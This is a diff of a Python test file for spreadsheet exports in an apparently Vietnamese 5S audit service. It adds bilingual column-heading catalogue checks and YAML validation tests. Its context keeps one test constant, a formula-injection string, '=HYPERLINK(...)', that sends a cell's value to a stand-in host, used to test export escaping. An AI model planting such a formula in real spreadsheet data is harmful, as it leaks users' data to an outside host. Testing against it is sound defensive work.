@@ -10,25 +10,44 @@ import io
 import zipfile
 from datetime import UTC, date, datetime
 from decimal import Decimal
+from pathlib import Path
 
+import pytest
 from openpyxl import load_workbook
 
 from contracts.common import Text
+from services.assessment.views import exports as assessment_exports
+from services.assessment.views import report
 from services.runtime.collation import by_name, name_parts
-from services.runtime.exports import NEUTRALISER, Sheet, columns, to_csv, to_xlsx
+from services.runtime.exports import (
+    HEADINGS,
+    NEUTRALISER,
+    Column,
+    Sheet,
+    columns,
+    read_headings,
+    to_csv,
+    to_xlsx,
+)
+from services.scoring.views import exports as scoring_exports
 
 #: The issue's cases, as typed.
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Xem minh chứng")'
 CLOSING = "== chưa đạt =="
 
+
+def heading(key: str, vi: str, en: str) -> Column:
+    return Column(key, Text(vi=vi, en=en))
+
+
 SHEET = Sheet(
     Text(vi="Phiếu đánh giá 5S", en="5S audits"),
-    columns(
-        ("note", "Ghi chú", "Note"),
-        ("points", "Điểm", "Points"),
-        ("at", "Thời điểm", "At"),
-        ("due", "Hạn", "Due"),
-        ("band", "Xếp loại", "Band"),
+    (
+        heading("note", "Ghi chú", "Note"),
+        heading("points", "Điểm", "Points"),
+        heading("at", "Thời điểm", "At"),
+        heading("due", "Hạn", "Due"),
+        heading("band", "Xếp loại", "Band"),
     ),
     [
         {
@@ -150,7 +169,7 @@ def test_people_in_vietnamese_order_given_then_family_then_middle_name() -> None
 def test_a_long_sheet_name_is_cut_between_letters() -> None:
     # Excel allows 31 characters in a sheet's name; a letter keeps its marks.
     title = "Kết quả đánh giá 5S các đơn vị quý I/2026"
-    sheet = Sheet(Text(vi=title, en="x"), columns(("a", "A", "A")), [])
+    sheet = Sheet(Text(vi=title, en="x"), (heading("a", "A", "A"),), [])
     name = load_workbook(io.BytesIO(to_xlsx(sheet))).active.title
     assert name == "Kết quả đánh giá 5S các đơn vị "[:31] and "/" not in name
 
@@ -167,3 +186,44 @@ def test_semicolons_and_decimal_commas_for_vietnamese_number_formats() -> None:
         "Hoàn thành tốt nhiệm vụ",
     ]
     assert table[2][:2] == ["'" + CLOSING, "-1,5"]
+
+
+#: Every sheet the services export, and the period report's.
+SHEETS = {
+    "audits": assessment_exports.AUDIT_COLUMNS,
+    "corrective actions": assessment_exports.ACTION_COLUMNS,
+    "period report": report.COLUMNS,
+    "classification": scoring_exports.CLASSIFICATION_COLUMNS,
+    "units": scoring_exports.UNIT_COLUMNS,
+    "satisfaction": scoring_exports.SATISFACTION_COLUMNS,
+}
+
+
+def test_a_sheet_names_its_columns_by_the_headings_catalogue() -> None:
+    made = heading("S1_percent", "S1 (%)", "S1 (%)")
+    assert columns("unit", made, "period") == (
+        heading("unit", "Đơn vị", "Unit"),
+        made,
+        heading("period", "Kỳ", "Period"),
+    )
+    # Every heading of the catalogue is a sheet's, and a sheet shows a key once.
+    shown = [column.key for sheet in SHEETS.values() for column in sheet]
+    assert set(HEADINGS) <= set(shown)
+    assert all(len({c.key for c in sheet}) == len(sheet) for sheet in SHEETS.values())
+
+
+def test_a_column_without_a_heading_is_refused_when_its_sheet_is_made() -> None:
+    with pytest.raises(ValueError, match="no heading for the columns scor, notes"):
+        columns("unit", "scor", "period", "notes")
+
+
+def test_the_catalogue_holds_two_texts_a_heading_each_written_once(tmp_path: Path) -> None:
+    lacking = tmp_path / "headings.yaml"
+    lacking.write_text('unit: ["Đơn vị", "Unit"]\nperiod: ["Kỳ"]\n', encoding="utf-8")
+    with pytest.raises(ValueError, match="period needs \\[Vietnamese, English\\]"):
+        read_headings(lacking)
+    twice = tmp_path / "twice.yaml"
+    twice.write_text('unit: ["Đơn vị", "Unit"]\nunit_name: ["Đơn vị", "Unit"]\n', "utf-8")
+    with pytest.raises(ValueError, match="unit_name is the heading of unit"):
+        read_headings(twice)
+    assert read_headings(Path(__file__).parents[2] / "services/runtime/headings.yaml") == HEADINGS
